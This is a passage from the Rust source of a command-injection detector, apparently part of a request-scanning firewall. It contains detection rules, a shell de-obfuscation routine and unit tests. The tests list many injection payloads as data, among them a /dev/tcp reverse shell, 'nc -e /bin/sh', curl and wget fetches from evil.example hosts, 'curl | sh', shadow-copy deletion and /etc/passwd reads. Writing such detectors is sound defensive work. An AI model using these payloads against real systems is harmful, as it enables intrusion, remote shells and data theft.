                    (r"(?:[;|\n`]|&&|&|\$\(|[<>]\()\s*/(?:usr/)?(?:local/)?s?bin/[a-z0-9_.+-]+", High, 0.8, "program in a system binary directory after a shell separator"),
                    (&probe, High, 0.75, "reconnaissance command as the whole value"),
                    // `& start calc.exe`, `;payload.bat`: an executable run by its file name.
                    (r#"(?:;|&&|&|\||\$\(|`)\s*(?:start\s+(?:/[a-z]+\s+)*)?(?:"[^"]*\.(?:exe|bat|cmd|ps1|vbs|hta|scr)"|[a-z0-9_\\:.-]+\.(?:exe|bat|cmd|ps1|vbs|hta|scr))(?:\s|$)"#, High, 0.7, "executable run after a shell separator"),
                    // An SMTP verb alone on a line after a line break: a line of an SMTP session.
                    (r"\r?\n\s*(?:data|quit|rset|noop)\s*(?:\r?\n|$)", High, 0.7, "SMTP command injection"),
                    // Batch `IF a==b command` with any command: in a URL, header or form there is
                    // no script for it to be a line of.
                    (r"\bif\s+(?:/i\s+)?(?:not\s+)?[^\s=]+\s*==\s*[^\s=]+\s+[a-z@(]", High, 0.7, "Windows batch IF"),
                ],
            )?,
        })
    }
}

/// Undoes shell-level obfuscation: quotes and backslashes inside words, empty expansions.
fn shell_fold(text: &str) -> Cow<'_, str> {
    if !text.bytes().any(|c| matches!(c, b'\'' | b'"' | b'\\' | b'$' | b'`' | b'^')) {
        return Cow::Borrowed(text);
    }
    let b = text.as_bytes();
    let mut out = String::with_capacity(text.len());
    let mut i = 0;
    while i < b.len() {
        match b[i] {
            b'\'' | b'"' => i += 1,
            b'$' | b'`' if empty_substitution(b, i) > 0 => i += empty_substitution(b, i),
            b'\\' if b.get(i + 1).is_some_and(|c| c.is_ascii_alphanumeric() || *c == b'/') => i += 1,
            // cmd.exe's escape inside a word (`wh^oami`, `c^m^d`).
            b'^' if i > 0 && b[i - 1].is_ascii_alphanumeric() && b.get(i + 1).is_some_and(u8::is_ascii_alphanumeric) => i += 1,
            b'$' => match b.get(i + 1) {
                Some(b'@' | b'*' | b'!' | b'?' | b'-' | b'_' | b'$' | b'0'..=b'9') => i += 2,
                Some(b'{') => {
                    let close = b[i..].iter().take(24).position(|&c| c == b'}');
                    match close {
                        Some(p) if b[i + 2..i + p].iter().all(|c| c.is_ascii_alphanumeric() || *c == b'_') => {
                            let name = &text[i + 2..i + p];
                            if name == "ifs" {
                                out.push(' ');
                            }
                            i += p + 1;
                        }
                        _ => {
                            out.push('$');
                            i += 1;
                        }
                    }
                }
                Some(c) if c.is_ascii_lowercase() => {
                    // `$u`, `$ifs`: a short variable glued into a word, or standing alone as a
                    // word (`; $a cat`), expands to nothing (or a space).
                    let len = b[i + 1..].iter().take_while(|c| c.is_ascii_alphanumeric()).count();
                    let next = b.get(i + 1 + len);
                    let glued = len <= 2 && next.map_or(true, |c| !c.is_ascii_alphanumeric()) && i > 0 && b[i - 1].is_ascii_alphanumeric();
                    let alone = len <= 3 && next.map_or(true, |c| *c == b' ') && (i == 0 || matches!(b[i - 1], b' ' | b';' | b'|' | b'&'));
                    if &text[i + 1..i + 1 + len] == "ifs" {
                        out.push(' ');
                        i += 1 + len;
                    } else if glued || alone {
                        i += 1 + len;
                    } else {
                        out.push('$');
                        i += 1;
                    }
                }
                _ => {
                    out.push('$');
                    i += 1;
                }
            },
            _ => {
                let ch_len = text[i..].chars().next().map_or(1, char::len_utf8);
                out.push_str(&text[i..i + ch_len]);
                i += ch_len;
            }
        }
    }
    Cow::Owned(out)
}

impl Check for Cmdi {
    fn triggers(&self) -> &'static [Trigger] {
        const T: &[Trigger] = &[
            gated(";", command_follows),
            gated("|", command_follows),
            gated("&", command_follows),
            gated("`", substitution_opens),
            gated("$(", substitution_opens),
            gated("<(", command_follows),
            gated(">(", command_follows),
            lit("$(("),
            gated("\n", command_follows),
            gated("\r", command_follows),
            gated("{", brace),
            lit("() {"),
            lit("(){"),
            lit("/dev/tcp/"),
            lit("/dev/udp/"),
            lit("mkfifo"),
            gated("for", batch),
            gated("if", batch),
            lit("child_process"),
            gated("process", process_member),
            gated("require", starts_word),
            lit("_$$nd_func$$_"),
            lit("__js_function"),
            // The first ten characters of each of [`BASE64_MARKERS`] (the rule checks the rest).
            lit("xyqktkrfrl"),
            lit("8kje5ex0zv"),
            lit("fjcrorf9gv"),
            lit("x19qc19mdw"),
            lit("9fannfznvu"),
            lit("fx2pzx2z1b"),
            lit("y2hpbgrfch"),
            lit("noawxkx3by"),
            lit("jaglszf9wc"),
            lit("chjvy2vzcy"),
            lit("byb2nlc3mu"),
            lit("wcm9jzxnzl"),
            lit("zxzhbchtdh"),
            lit("v2ywwou3ry"),
            lit("ldmfskfn0c"),
            lit("dghpcy5jb2"),
            lit("roaxmuy29u"),
            lit("0aglzlmnvb"),
            lit("bmv3iez1bm"),
            lit("5ldybgdw5j"),
            lit("uzxcgrnvuy"),
            lit("u3ryaw5nlm"),
            lit("n0cmluzy5m"),
            lit("tdhjpbmcuz"),
            lit("bw9kdwxllm"),
            lit("1vzhvszs5l"),
            lit("tb2r1bguuz"),
            lit("z2xvymfsln"),
            lit("dsb2jhbc5w"),
            lit("nbg9iywwuc"),
            lit("zxhly1n5bm"),
            lit("v4zwntew5j"),
            lit("legvju3luy"),
            lit("c3bhd25tew"),
            lit("nwyxduu3lu"),
            lit("zcgf3bln5b"),
            lit("uhjvy2vzcy"),
            lit("byb2nlc3mu"),
            lit("qcm9jzxnzl"),
            lit("d2hpbguodh"),
            lit("doawxlkhry"),
            lit("3aglszsh0c"),
            lit("constructor"),
            lit("runinnewcontext"),
            lit("reflect."),
            gated("invoke-", starts_word),
            gated("start-", starts_word),
            gated("new-", starts_word),
            gated("get-", starts_word),
            // The verbs of [`MORE_CMDLETS`], each waking only on a whole cmdlet name.
            gated("checkpoint-", cmdlet_follows),
            gated("clear-", cmdlet_follows),
            gated("compare-", cmdlet_follows),
            gated("compress-", cmdlet_follows),
            gated("connect-", cmdlet_follows),
            gated("convert-", cmdlet_follows),
            gated("convertfrom-", cmdlet_follows),
            gated("convertto-", cmdlet_follows),
            gated("copy-", cmdlet_follows),
            gated("debug-", cmdlet_follows),
            gated("disable-", cmdlet_follows),
            gated("disconnect-", cmdlet_follows),
            gated("enable-", cmdlet_follows),
            gated("enter-", cmdlet_follows),
            gated("exit-", cmdlet_follows),
            gated("expand-", cmdlet_follows),
            gated("export-", cmdlet_follows),
            gated("find-", cmdlet_follows),
            gated("foreach-object", cmdlet_follows),
            gated("format-", cmdlet_follows),
            gated("group-object", cmdlet_follows),
            gated("import-", cmdlet_follows),
            gated("install-", cmdlet_follows),
            gated("join-path", cmdlet_follows),
            gated("measure-", cmdlet_follows),
            gated("move-", cmdlet_follows),
            gated("out-", cmdlet_follows),
            gated("pop-location", cmdlet_follows),
            gated("protect-", cmdlet_follows),
            gated("publish-", cmdlet_follows),
            gated("push-location", cmdlet_follows),
            gated("read-host", cmdlet_follows),
            gated("receive-", cmdlet_follows),
            gated("register-", cmdlet_follows),
            gated("rename-", cmdlet_follows),
            gated("reset-", cmdlet_follows),
            gated("resolve-path", cmdlet_follows),
            gated("restart-", cmdlet_follows),
            gated("restore-", cmdlet_follows),
            gated("resume-", cmdlet_follows),
            gated("save-", cmdlet_follows),
            gated("select-", cmdlet_follows),
            gated("send-mailmessage", cmdlet_follows),
            gated("show-", cmdlet_follows),
            gated("sort-object", cmdlet_follows),
            gated("split-path", cmdlet_follows),
            gated("suspend-", cmdlet_follows),
            gated("switch-process", cmdlet_follows),
            gated("tee-object", cmdlet_follows),
            gated("test-", cmdlet_follows),
            gated("trace-command", cmdlet_follows),
            gated("unblock-file", cmdlet_follows),
            gated("undo-transaction", cmdlet_follows),
            gated("uninstall-", cmdlet_follows),
            gated("unprotect-", cmdlet_follows),
            gated("unregister-", cmdlet_follows),
            gated("update-", cmdlet_follows),
            gated("use-transaction", cmdlet_follows),
            gated("wait-", cmdlet_follows),
            gated("where-object", cmdlet_follows),
            gated("write-", cmdlet_follows),
            gated("copy-item", starts_word),
            gated("move-item", starts_word),
            gated("out-file", starts_word),
            gated("register-scheduledtask", starts_word),
            gated("convertto-securestring", starts_word),
            gated("set-", starts_word),
            gated("add-", starts_word),
            gated("remove-", starts_word),
            gated("stop-", starts_word),
            lit("%comspec%"),
            gated("iex", starts_word),
            gated("iwr", starts_word),
            gated("irm", starts_word),
            lit("execsync"),
            lit("sync("),
            lit("sync ("),
            lit("createreadstream"),
            lit("createwritestream"),
            lit("watchfile"),
            gated("fs", process_member),
            gated("spawn", call_follows),
            gated("fork", call_follows),
            gated("while", call_follows),
            lit(";;)"),
            gated("send", call_follows),
            gated("__send__", call_follows),
            gated("public_send", call_follows),
            lit("const_get"),
            lit("binding["),
            lit("binding ["),
            lit("kernel."),
            lit("kernel ."),
            lit("popen"),
            lit("open3"),
            lit("_eval"),
            lit("%x"),
            lit("execfilesync"),
            lit("spawnsync"),
            lit("runinthiscontext"),
            lit("runincontext"),
            lit("globalthis"),
            lit("global.process"),
            lit("global["),
            lit("module.exports"),
            gated("console", process_member),
            gated("function", starts_word),
            lit("<!--#"),
            lit("<!-- #"),
            lit("sh -c"),
            lit("sh -i"),
            gated("cmd", starts_word),
            lit("powershell"),
            lit("~+"),
            lit("~-"),
            lit("@{"),
            lit("@ {"),
            lit("${\\"),
            lit("mail from"),
            lit("rcpt to"),
            gated(".shell", sqlite_dot_command),
            gated(".system", sqlite_dot_command),
            gated(".databases", sqlite_dot_command),
            gated(".import", sqlite_dot_command),
            gated(".load", sqlite_dot_command),
            gated(".sh", sqlite_dot_command),
            gated(".archive", sqlite_dot_command),
            gated(".backup", sqlite_dot_command),
            gated(".clone", sqlite_dot_command),
            gated(".dbinfo", sqlite_dot_command),
            gated(".dump", sqlite_dot_command),
            gated(".excel", sqlite_dot_command),
            gated(".iotrace", sqlite_dot_command),
            gated(".once", sqlite_dot_command),
            gated(".open", sqlite_dot_command),
            gated(".output", sqlite_dot_command),
            gated(".read", sqlite_dot_command),
            gated(".recover", sqlite_dot_command),
            gated(".restore", sqlite_dot_command),
            gated(".save", sqlite_dot_command),
            gated(".schema", sqlite_dot_command),
            gated(".tables", sqlite_dot_command),
            lit("\nhelo"),
            lit("\nehlo"),
            lit("\nvrfy"),
            lit("\nexpn"),
            lit("\ndata"),
            lit("\nquit"),
            lit("\nrset"),
            lit("\nnoop"),
            gated("-e", exec_option),
            gated("${", substring_expansion),
            lit("${ifs}"),
            lit("$ifs"),
            gated("alias", starts_word),
            lit("$'"),
            gated(">", redirection),
            gated("!", bang),
            gated("?", glob_component),
            gated("*", glob_component),
            gated("eval", starts_word),
        ];
        T
    }

    fn wakes_on(&self, _part: Part, _ty: ValueType) -> bool {
        true
    }

    fn wake(&self, text: &[u8], _field: &Field<'_>) -> bool {
        // A value that starts with a command and an argument shape (`cat /etc/passwd`,
        // `ping -c 3 x`, `ansible-config dump`): the shape is tested first, byte by byte, and
        // only then the command list.
        let i = skip_space(text, 0);
        if !text.get(i).is_some_and(|c| c.is_ascii_alphabetic() || matches!(c, b'/' | b'\'' | b'"')) {
            return false;
        }
        // PERF: most values are one word (a key, an id, a code) and end here.
        let word_len = text[i..].iter().take(33).take_while(|&&c| c > b' ').count();
        let word = &text[i..i + word_len];
        if word.iter().any(|&c| matches!(c, b'\'' | b'"' | b'\\' | b'$' | b'`')) && hides_command(text, i) {
            return true;
        }
        if !text.get(i + word_len).is_some_and(|&c| c <= b' ') {
            // One word: a command glued to an expansion or a redirection (`cat${IFS}/etc/hosts`,
            // `cat</etc/hosts`) or a console's name (checked on its first letter first).
            let name = word.iter().take_while(|c| c.is_ascii_alphanumeric()).count();
            if name > 1 && matches!(word.get(name), Some(b'$' | b'<' | b'>')) {
                let mut buf = [0u8; 24];
                return is_command(command_word(text, i, &mut buf));
            }
            return (matches!(text[i] | 0x20, b'a' | b'c') && is_automation_tool(word)) || is_probe(word);
        }
        if is_automation_tool(word) {
            return true;
        }
        let arg = skip_space(text, i + word_len);
        if word_len > 32 || arg >= text.len() {
            return arg >= text.len() && is_probe(word);
        }
        let shaped = matches!(text[arg], b'-' | b'/' | b'~' | b'$' | b'.' | b'<' | b'>' | b'|' | b'\'' | b'"' | b'%')
            || word.iter().any(|&c| matches!(c, b'-' | b';' | b'|' | b'&'))
            || text[arg..].iter().take(24).take_while(|&&c| c > b' ').any(|&c| c == b'.')
            || {
                let mut buf = [0u8; 24];
                matches!(word_at(text, arg, &mut buf), b"install" | b"all" | b"report" | b"dump" | b"decrypt")
            };
        let mut buf = [0u8; 24];
        if !shaped {
            // `nohup ifconfig`: a wrapper, then a command (the wrapper is compared in place).
            return WRAPPERS.iter().any(|w| word.eq_ignore_ascii_case(w.as_bytes())) && is_command(command_word(text, arg, &mut buf));
        }
        if in_bin_dir(word) {
            return true;
        }
        let w = command_word(text, i, &mut buf);
        !w.is_empty() && is_command(w)
    }

    fn check(&self, s: &Subject<'_>) -> Option<Hit> {
        let folded = shell_fold(s.text);
        let hit = self.rules.best_either(s.text, Some(&folded));
        let hidden = hidden_command(s.text.as_bytes()).map(|at| Hit::new(Family::Cmdi, High, 0.8, at, "command name hidden by shell quoting"));
        let hit = stronger(hit, hidden);
        if !is_json_text(s) {
            let hit = stronger(hit, self.strict_rules.best(s.text));
            // `Get-Date`, `Format-Table -Auto`: PowerShell's spelling, not a slug (`get-date`).
            let capitalized = s.raw.trim_start().as_bytes().first().is_some_and(u8::is_ascii_uppercase);
            let leading = capitalized && self.leading_cmdlet.is_match(s.text);
            return stronger(hit, leading.then(|| Hit::new(Family::Cmdi, High, 0.75, 0, "PowerShell cmdlet opening the value")));
        }
        // A command quoted as Markdown code in a docs page or ticket is documentation.
        hit.map(|h| {
            if in_markdown_code(s.text, h.at) {
                h.at_most(Medium, 0.5)
            } else {
                h
            }
        })
    }
}

#[cfg(test)]
mod tests {
    use super::super::testing::*;

    /// Standard base64 (enough for the test).
    fn base64(bytes: &[u8]) -> String {
        const A: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
        let mut out = String::new();
        for chunk in bytes.chunks(3) {
            let n = chunk.iter().enumerate().fold(0u32, |acc, (i, &b)| acc | u32::from(b) << (16 - 8 * i));
            for k in 0..=chunk.len() {
                out.push(A[(n >> (18 - 6 * k) & 63) as usize] as char);
            }
        }
        out
    }

    proptest::proptest! {
        #[test]
        fn batch_comparison_finds_what_a_window_search_finds(s in "([ =]|equ|NEQ|lss|Leq|gtr|geq|eq|[a-z]){0,40}") {
            let w = s.as_bytes();
            let want = w.windows(2).any(|p| p == b"==")
                || w.windows(5).any(|p| p[0] == b' ' && p[4] == b' ' && matches!(&p[1..4].to_ascii_lowercase()[..], b"equ" | b"neq" | b"lss" | b"leq" | b"gtr" | b"geq"));
            proptest::prop_assert_eq!(super::batch_comparison(w), want);
        }
    }

    #[test]
    fn command_lists_are_sorted() {
        assert!(super::COMMANDS.windows(2).all(|w| w[0] < w[1]));
        assert!(super::SQLITE_DOT_COMMANDS.windows(2).all(|w| w[0] < w[1]));
        let triggers: Vec<String> = super::super::Check::triggers(&super::Cmdi::new().unwrap()).iter().map(|t| t.lit.to_string()).collect();
        assert!(super::SQLITE_DOT_COMMANDS.iter().all(|c| triggers.contains(&format!(".{c}"))), "each dot-command has its trigger");
    }

    #[test]
    fn node_file_and_process_calls_stalls_and_ruby_outside_json_text() {
        use crate::fields::{Part, ValueType};
        let at = |part, v: &str| scan_at(part, ValueType::Text, "q", v).iter().any(|f| f.kind == "attack.cmdi" && f.weight() >= 0.5);
        for v in [
            "fs.unlinkSync('/x')",
            "require('fs').writeFileSync('/tmp/x','y')",
            "fs.createReadStream('/etc/passwd')",
            "fs.promises.readFile('/etc/passwd')",
            "cp.fork('x.js')",
            "spawn('sh',['-c','id'])",
            "this.constructor['_load']('fs')",
            "while(true){}",
            "while ( !0 )",
            "while(!!1)",
            "Process.spawn(\"id\")",
            "Kernel.exec('id')",
            "IO.popen('id').read",
            "Open3.capture2('id')",
            "instance_eval('x')",
            "%x(id)",
        ] {
            assert!(at(Part::Query, v), "{v}");
            assert!(at(Part::Body, v), "{v} in a form field");
        }
        for v in ["while (true love) lasts", "while(we wait)", "spawn point (map 3)", "fork (git) the repo", "the binding agreement", "process spawning", "kernel 6.1 (lts)", "50%x(2)", "IO popen docs", "fsync (disabled)"] {
            assert!(!at(Part::Query, v), "{v}");
        }
        // In a JSON text field they are a snippet, reported below the flag line.
        for v in ["const data = fs.readFileSync('./config.json')", "while(true) { poll(); }", "Process.spawn('ls')"] {
            assert!(!any_flag_in_json(v), "{v}");
        }
    }

    #[test]
    fn ruby_methods_sent_by_name_endless_for_and_function_from_pieces() {
        use crate::fields::{Part, ValueType};
        let at = |part, v: &str| scan_at(part, ValueType::Text, "q", v).iter().any(|f| f.kind == "attack.cmdi" && f.weight() >= 0.5);
        for v in [
            "Kernel.send(:system, 'id')",
            "x.__send__(:exec, \"ls\")",
            "obj.public_send(:eval, params[:c])",
            "Object.const_get(:Kernel).exec('id')",
            "const_get('IO').popen('id')",
            "for(;;){}",
            "for ( ; ; ) ;",
        ] {
            assert!(at(Part::Query, v), "{v}");
            assert!(at(Part::Body, v), "{v} in a form field");
        }
        for v in ["send(:email)", "please send (asap)", "send :system notes", "const_get(:Config)", "for (a; b; c)", "for (;) typo", "for (;;) loops explained"] {
            assert!(!at(Part::Query, v), "{v}");
        }
        // `Function('a' + 'b')()`: code built from strings and run; a function expression is not.
        assert!(at(Part::Query, "Function('ale'+'rt(1)')()") && at(Part::Query, "Function(\"a\", \"return a\")(1)"));
        assert!(!at(Part::Query, "(function (a, b) { return a })(1)"));
        // In a JSON text field, Ruby is a snippet.
        assert!(!any_flag_in_json("Kernel.send(:system, 'ls')"));
    }

    #[test]
    fn powershell_cmdlets_and_programs_by_their_path() {
        use crate::fields::{Part, ValueType};
        assert!(super::MORE_CMDLETS.windows(2).all(|w| w[0] < w[1]));
        let triggers: Vec<String> = super::super::Check::triggers(&super::Cmdi::new().unwrap()).iter().map(|t| t.lit.to_string()).collect();
        assert!(super::MORE_CMDLETS.iter().all(|c| triggers.iter().any(|t| c.starts_with(t.as_str()))), "each cmdlet's verb has a trigger");
        let at = |part, v: &str| scan_at(part, ValueType::Text, "q", v).iter().any(|f| f.kind == "attack.cmdi" && f.weight() >= 0.5);
        for v in ["; Clear-EventLog -LogName Security", "x|Format-Hex c:\\boot.ini", "powershell Get-LocalGroup", "Compress-Archive -Path c:\\data", "Get-Date", "&& Export-Clixml -Path x", "x;/usr/bin/anyprog", "a && /sbin/whatever -x", "x|/usr/local/bin/tool"] {
            assert!(at(Part::Query, v), "{v}");
            assert!(at(Part::Body, v), "{v} in a form field");
        }
        for v in ["get-date", "new-item", "read-host", "the get-help page", "Sort-of works", "Test-driven design", "Write-Host is not a thing here", "Get-Help center", "see /bin/ for tools", "/binary/file", "/usr/bin", "C:/bin/x", "/usr/bin/python3", "a;/binary"] {
            assert!(!at(Part::Query, v), "{v}");
        }
        assert!(!any_flag_in_json("Get-Date | Format-Table"), "a PowerShell snippet in a JSON text");
        assert!(!any_flag_in_json("cd /app; /usr/bin/make test"), "a shell line in a JSON text");
    }

    #[test]
    fn process_substitution_into_a_command_and_arithmetic_expansion() {
        for v in ["x >(cat /etc/passwd)", "a>(id)", "diff <(ls /) >(tee /tmp/x)", "$((7*191))", "x=$(( 1 + 1 ))"] {
            assert!(flags("attack.cmdi", v), "{v}");
        }
        for v in ["a >(b) c", "x>(5%)", "$(( price", "((see p. 5))", "$(x)", "it costs $((5)) dollars"] {
            assert!(!flags("attack.cmdi", v), "{v}");
        }
    }

    #[test]
    fn operands_logins_and_shares_as_argument_shapes() {
        for v in ["; dd if=/dev/zero of=/tmp/x", "x; ssh root@10.0.0.7", "| scp a.txt bob@files.example.org:/tmp", "& copy \\\\10.0.0.5\\s\\x.exe", "x && env HOME=/tmp sh"] {
            assert!(flags("attack.cmdi", v), "{v}");
        }
        for v in ["Tom; cat lovers unite", "see below; more=better", "x; mail me later", "a & b = c", "Price; date=2024-01-01", "meeting; set date=tomorrow", "ping me@example.com"] {
            assert!(!flags("attack.cmdi", v), "{v}");
        }
    }

    #[test]
    fn backquoted_commands_glued_or_alone_and_more_programs() {
        for v in ["`uname -a`", "x=`id`", "\"`whoami`\"", "a`cmp /etc/passwd /etc/hosts`", "$(pdksh)", "x&&gimp", ";octave -q", "; as -h", "|man /etc/passwd"] {
            assert!(flags("attack.cmdi", v), "{v}");
            assert!(flags_at("attack.cmdi", crate::fields::Part::Body, v), "{v} in a form field");
        }
        for v in ["run `ls` to list files", "(`git`) is a tool", "use `curl` or `wget`", "`git status` shows changes", "colors; red and blue", "hand-made; as usual", "yes; man overboard"] {
            assert!(!flags("attack.cmdi", v), "{v}");
        }
    }

    #[test]
    fn powershell_aliases_after_a_separator() {
        for v in ["; gci c:\\windows", "|saps -FilePath calc", "& ipmo .\\x.psm1", "; gwmi -Class win32_process", "x;sl c:\\", "; gc -Path c:\\boot.ini"] {
            assert!(flags("attack.cmdi", v), "{v}");
        }
        for v in ["price; GBP 5", "we met; gin and tonic", "x; cli tools", "a; gps tracking", "notes; si senor"] {
            assert!(!flags("attack.cmdi", v), "{v}");
        }
    }

    #[test]
    fn pop3_commands_on_their_own_lines() {
        use crate::fields::{Part, ValueType};
        let at = |part, v: &str| scan_at(part, ValueType::Text, "q", v).iter().any(|f| f.kind == "attack.cmdi" && f.weight() >= 0.5);
        for v in ["x\r\nRETR 1", "\r\nDELE 3\r\n", "a\r\nUSER bob\r\nPASS hunter2", "\r\nTOP 1 10\r\n", "\r\nAPOP mrose c4c9334bac560ecc979e58001b3e22fb", "x\r\nAUTH PLAIN dGVzdAB0ZXN0AHRlc3Q="] {
            assert!(at(Part::Body, v), "{v:?}");
        }
        for v in ["Shopping\r\nList\r\nmilk", "Steps:\r\nretrieve the parcel\r\n", "Dear user\r\npass the salt", "Top 10\r\nitems", "\r\nAuth required\r\n", "Chapter\r\nList 5 reasons why"] {
            assert!(!at(Part::Body, v), "{v:?}");
        }
    }

    #[test]
    fn windows_tools_sourced_scripts_downloads_and_batch_loops() {
        use crate::fields::{Part, ValueType};
        let at = |part, v: &str| scan_at(part, ValueType::Text, "q", v).iter().any(|f| f.kind == "attack.cmdi" && f.weight() >= 0.5);
        for v in [
            "a|netsh firewall set opmode disable",
            "&wevtutil cl system",
            "x & vssadmin delete shadows /all",
            "&attrib +h x",
            ";. /tmp/x.sh",
            "|. ./evil",
            "&& . ~/payload",
            "for /r %userprofile% %x in (*.doc) do type %x",
            "for /r .\\ %x in (*) do del %x",
            "FOR/L %i IN (1,1,9) DO ping x",
            "IF EXIST",
            "if not cmdextversion",
        ] {
            assert!(flags("attack.cmdi", v), "{v}");
        }
        assert!(at(Part::Query, "wget http://x.example/a.sh") && at(Part::Body, "curl -s -o /tmp/a https://x.example/a"));
        assert!(!any_flag_in_json("wget https://example.com/release.zip"));
        for v in ["R&D attrib (v2)", "wow. /s", "see . /docs", "for people in (London) do visit", "if exists, skip", "wget is a tool"] {
            assert!(!flags("attack.cmdi", v), "{v}");
        }
    }

    #[test]
    fn a_spaced_ampersand_joins_words_of_prose() {
        for v in ["Python & Ruby developers", "time & date", "Filter & Sort", "Cut & Copy", "Search & Find", "Java & PHP", "Relax & Sleep", "Shop & More", "Name & ID", "gross & net user growth", "Q&A: net use of funds", "bus & route planner"] {
            assert!(!flags("attack.cmdi", v), "{v}");
        }
        for v in [
            "x & whoami",
            "127.0.0.1 & ping -n 5 127.0.0.1",
            "a & ping 10.0.0.1",
            "x & python exploit.py",
            "x & curl http://evil.example/a",
            "x & cat /etc/passwd",
            "x & nc 10.0.0.1 4444",
            "x&id",
            "x &id",
            "x& id",
            "x & date; x",
            "x & perl -e 'exec q(sh)'",
            "x.jpg& tracert 10.0.0.1",
            "x.jpg& route print",
            "x| sc create x binpath= c:\\x.exe",
            "x& runas /user:admin cmd",
            "x& net localgroup administrators eve /add",
            "x & net view \\\\fileserver",
        ] {
            assert!(flags("attack.cmdi", v), "{v}");
        }
    }

    #[test]
    fn ifs_openings_history_aliases_executables_and_imap_mailboxes() {
        use crate::fields::Part;
        for v in [
            "${IFS}cat${IFS}/etc/hosts",
            "$IFS/bin/cat$IFS$9/etc/hosts",
            "!!",
            "x; !-2",
            "alias ls='rm -rf /'",
            "x; alias grep=\"curl -s //evil.example\"",
            "x\r\nB7 DELETE INBOX",
            "x\r\nc1 RENAME INBOX old",
            "powershell Invoke-WebRequest https://evil.example/x -OutFile x.exe",
            "@ { [ system 'id' ] }",
            "${\\ `id`}",
            "${\\ system('id')}",
            "{\"get\":\"$1:constructor:constructor\"}",
        ] {
            assert!(flags("attack.cmdi", v), "{v}");
        }
        assert!(flags_at("attack.cmdi", Part::Query, "& calc.exe"), "an executable run by its name");
        assert!(flags_at("attack.cmdi", Part::Body, "x | payload.bat"), "an executable run by its name in a form");
        for v in [
            "Wow!! Great price",
            "Rated !-1 by nobody!",
            "alias: Bob",
            "my alias=bobby",
            "Download app.exe & run it",
            "Notes\nA1 list of tasks\nB2 copy of the form",
            "Cost: $IFSC code is HDFC0001",
            "We use PowerShell to get-things done",
            "email me @ {address}",
            "${\\LaTeX} and $\\alpha$",
            "$1: constructor pattern",
        ] {
            assert!(!flags("attack.cmdi", v), "{v}");
        }
    }

    #[test]
    fn base64_markers_are_the_markers_encoded_at_each_alignment() {
        let mut expected = Vec::new();
        for marker in [&b"_$$ND_FUNC$$_"[..], b"__js_function", b"child_process", b"process.mainModule", b"eval(String.fromCharCode", b"process.binding", b"this.constructor", b"new Function(", b"String.fromCharCode", b"module.exports", b"global.process", b"execSync(", b"spawnSync(", b"Process.spawn(", b"while(true)"] {
            for k in 0..3usize {
                let mut bytes = vec![0u8; k];
                bytes.extend_from_slice(marker);
                let enc = base64(&bytes);
                // Characters whose 6 bits all come from the marker.
                let stable: String = enc.chars().enumerate().filter(|(g, _)| 6 * g >= 8 * k && 6 * g + 6 <= 8 * (k + marker.len())).map(|(_, c)| c).collect();
                expected.push(stable.to_ascii_lowercase());
            }
        }
        assert_eq!(super::BASE64_MARKERS, expected.iter().map(String::as_str).collect::<Vec<_>>().as_slice());
        let triggers: Vec<&str> = super::super::Check::triggers(&super::Cmdi::new().unwrap()).iter().map(|t| t.lit).collect();
        assert!(super::BASE64_MARKERS.iter().all(|m| triggers.contains(&&m[..10])), "each marker has its trigger");
    }

    #[test]
    fn more_base64_wrapped_javascript() {
        for payload in ["require('child_process').execSync('id')", "x=1;while(true){}", "Process.spawn('id')", "cp.spawnSync('sh')"] {
            for pad in ["", "a", "ab"] {
                let v = base64(format!("{pad}{payload}").as_bytes());
                assert!(flags("attack.cmdi", &v), "{payload} at {pad:?}: {v}");
            }
        }
        for v in [base64(b"while you wait, sync your files"), base64(b"{\"spawn\": true}"), "ZXhlY3V0aW9uIGxvZw==".to_string()] {
            assert!(!flags("attack.cmdi", &v), "{v}");
        }
    }

    #[test]
    fn catches_cmdi() {
        assert_family(
            "attack.cmdi",
            &[
                "127.0.0.1; cat /etc/passwd",
                "x | whoami",
                "a && wget http://evil/x.sh",
                "`whoami`",
                "$(id)",
                "; c'a't /et'c'/pas's'wd",
                "www.google.com;c$@at /et$@c/pas$@swd",
                "example.org;ca$_t+/etc/host$*s",
                "127.0.0.1;cat${IFS}/etc/passwd",
                "() { :;}; /bin/bash -c 'id'",
                "bash -i >& /dev/tcp/10.0.0.1/4242 0>&1",
                "curl http://x | sh",
                "& cmd /c dir",
                "| powershell -enc SQBFAFgA",
                "FOR /F \"delims=\" %G IN ('SET') DO @Echo %G",
                "IF /I \"%var%\" NEQ \"0\" ECHO x",
                "require('child_process').exec('id')",
                "\nping -c 3 127.0.0.1",
                "time sh -c whoami",
                "x\"|netsh %ProgramData%\\a",
                "1 && (bash) 0>/tmp/f",
                "sudo -n uname",
                "nohup wget",
                "c=/bin/cat; $c /etc/hosts",
                "; $z ls $z notes.txt",
                "\"ls\" /srv/",
                "whoami; true",
                "\nb12 LOGIN root x",
                "; at 23:59 \"/tmp/x\"",
                "x;/usr/b?n/c?t /e?c/hosts",
                "/???/??ho hi",
                "1;.sh id",
                "nc 10.1.1.1 9 -e /bin/sh",
                ">/var/www/html/x.php",
                "1; 2>>/tmp/log",
                ":silent !bash",
                "session=eyJ4IjoiXyQkTkRfRlVOQyQkX2Z1bmN0aW9uKCl7fSJ9",
                "cmVxdWlyZSgnY2hpbGRfcHJvY2VzcycpLnNwYXduKCdscycp",
                "eD1wcm9jZXNzLm1haW5Nb2R1bGU=",
                "ZXZhbChTdHJpbmcuZnJvbUNoYXJDb2RlKDk3KSk=",
                "process[\"mainModule\"]",
                "__js_function",
            ],
            &[
                "Tom & Jerry",
                "Rock; paper; scissors",
                "Good morning; top of the day to you",
                "cats & dogs | birds",
                "if x == y then",
                "for each item in the list do something",
                "Use `ls -la` to list files",
                "Price: $5 | Tax: $1",
                "a|b|c",
                "key1;key2;key3",
                "R&D department",
                "The cat sat on the mat",
                "user@example.com",
                "{\"a\": 1}",
                "See (above) and {below}",
                "I'm 100% sure; it's fine",
                "echo chamber",
                "Is it done? /me shrugs",
                "https://example.com/search?q=a*b&page=2",
                "**bold** and *italic*",
                "Use the -e flag with grep -e pattern",
                "time to go; nice weather",
                "It costs $a lot",
                "Great!whoami is a weird word",
                "a > /tmp is a path",
                "<b>x</b> > /etc/motd",
                "class Foo { constructor() { this.a = () => {}; } }",
                ";$x $y $z",
                "ls? Not sure",
                "sudo make me a sandwich",
                "whoami is a command",
                "glob /usr/*.txt files",
                "https://example.com/home/?",
                "/*/items",
                "route /api/*/posts/*",
